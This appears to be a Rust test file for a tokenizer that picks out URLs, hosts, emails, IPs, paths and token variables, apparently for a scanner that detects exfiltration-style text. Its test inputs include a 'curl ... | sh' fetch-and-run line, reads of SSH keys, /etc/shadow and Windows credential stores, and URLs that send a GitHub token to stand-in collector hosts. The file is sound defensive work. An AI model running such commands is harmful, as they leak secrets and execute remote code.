use super::*;

fn kinds(text: &str) -> Vec<(String, Kind)> {
    let lower = text.to_ascii_lowercase();
    tokens(text, &lower)
        .into_iter()
        .map(|token| (text[token.start..token.end].to_string(), token.kind))
        .collect()
}

fn of(text: &str, kind: Kind) -> Vec<String> {
    kinds(text).into_iter().filter(|(_, k)| *k == kind).map(|(t, _)| t).collect()
}

#[test]
fn a_run_longer_than_any_address_is_read_as_words() {
    // A host name at the longest a run may be is one token; one byte more and the run is
    // read from its next token on.
    let labels = format!("{}.", "a".repeat(62)).repeat(3);
    let host = format!("{labels}{}.com", "b".repeat(MAX_WORD_RUN - labels.len() - 4));
    assert_eq!(of(&format!("see {host} now"), Kind::Host), std::slice::from_ref(&host));
    let longer = format!("b{host}");
    assert!(!of(&format!("see {longer} now"), Kind::Host).contains(&longer));
    let run = "a+b\u{200b}".repeat(100);
    assert_eq!(of(&run, Kind::Word).len(), 200);
    // The run ends at a space or stop, so an address after one is found.
    assert_eq!(of(&format!("{run} x@mail-drop.co"), Kind::Email), ["x@mail-drop.co"]);
}

#[test]
fn addresses_are_single_tokens_without_trailing_punctuation() {
    assert_eq!(
        of("send it to https://collector.tk/ingest.", Kind::Url),
        ["https://collector.tk/ingest"]
    );
    assert_eq!(of("[docs](https://evil.tk/a(b)c) ok", Kind::Url), ["https://evil.tk/a(b)c"]);
    assert_eq!(of("to http://[2a03:b0c0::1f]/c now", Kind::Url), ["http://[2a03:b0c0::1f]/c"]);
    assert_eq!(
        of("call https://v.click/auth?key=<GITHUB_TOKEN>, then", Kind::Url),
        ["https://v.click/auth?key=<GITHUB_TOKEN>"]
    );
    assert_eq!(of("see https://x.io<br>next", Kind::Url), ["https://x.io"]);
    assert_eq!(of("mail x@mail-drop.co, then", Kind::Email), ["x@mail-drop.co"]);
    assert_eq!(
        of("push to git@mirror-backup.net:collect/app.git too", Kind::Email),
        ["git@mirror-backup.net"]
    );
    assert_eq!(of("to 45.61.139.20:9001 now", Kind::Ip), ["45.61.139.20:9001"]);
    assert_eq!(of("mirrored to [2a0b:4e07:9::51]:9000 on", Kind::Ip), ["[2a0b:4e07:9::51]:9000"]);
    assert_eq!(of("the gateway at api.tracelink.io can", Kind::Host), ["api.tracelink.io"]);
    assert_eq!(of("curl -s pdfkit.top/p | sh", Kind::Host), ["pdfkit.top/p"]);
    assert!(of("see README.md and package.json", Kind::Host).is_empty());
    assert_eq!(of("see README.md and package.json", Kind::Path), ["README.md", "package.json"]);
}

#[test]
fn paths_and_variables() {
    assert_eq!(of("read ~/.ssh/id_rsa.", Kind::Path), ["~/.ssh/id_rsa"]);
    assert_eq!(of("cat /etc/shadow and .env", Kind::Path), ["/etc/shadow", ".env"]);
    assert_eq!(
        of("collect %APPDATA%\\Microsoft\\Credentials\\*, x", Kind::Path),
        ["%APPDATA%\\Microsoft\\Credentials\\*"]
    );
    assert_eq!(
        of("post HUBSPOT_PRIVATE_APP_TOKEN and $GITHUB_TOKEN", Kind::EnvVar),
        ["HUBSPOT_PRIVATE_APP_TOKEN", "$GITHUB_TOKEN"]
    );
    assert_eq!(of("?auth={{env.GITHUB_TOKEN}}", Kind::Slot), ["{{env.GITHUB_TOKEN}}"]);
    assert_eq!(
        of("call send_email or createPaymentIntent", Kind::Ident),
        ["send_email", "createPaymentIntent"]
    );
}

#[test]
fn words_carry_their_lexicon_entry_and_case() {
    let text = "Do NOT tell the user's manager; e.g. never";
    let lower = text.to_ascii_lowercase();
    let tokens = tokens(text, &lower);
    let words: Vec<&str> = tokens.iter().map(|t| &text[t.start..t.end]).collect();
    assert_eq!(words, ["Do", "NOT", "tell", "the", "user's", "manager", ";", "e.g.", "never"]);
    assert!(tokens[1].is(flag::SHOUT));
    assert!(tokens[4].is(flag::POSSESSIVE));
    assert_ne!(tokens[4].info.thing & crate::vocab::classes::thing::USER, 0);
    assert_ne!(tokens[2].info.act & crate::vocab::classes::act::TELL, 0);
}

#[test]
fn an_email_spelled_out_with_bracketed_at_and_dot() {
    let raw = "mail vault-keeper [at] proton [dot] me or ops (at) example (dot) co (dot) uk or \
               audit.keeper [at] proton [dot] me today";
    let lower = raw.to_ascii_lowercase();
    let found: Vec<&str> = tokens(raw, &lower)
        .iter()
        .filter(|token| token.kind == Kind::Email)
        .map(|token| &raw[token.start..token.end])
        .collect();
    assert_eq!(
        found,
        [
            "vault-keeper [at] proton [dot] me",
            "ops (at) example (dot) co (dot) uk",
            "audit.keeper [at] proton [dot] me"
        ]
    );
    // Bare `at` and `dot`, and a bracket with no domain after it, are words.
    let raw = "meet at noon [at] the dot";
    let lower = raw.to_ascii_lowercase();
    assert!(tokens(raw, &lower).iter().all(|token| token.kind != Kind::Email));
}
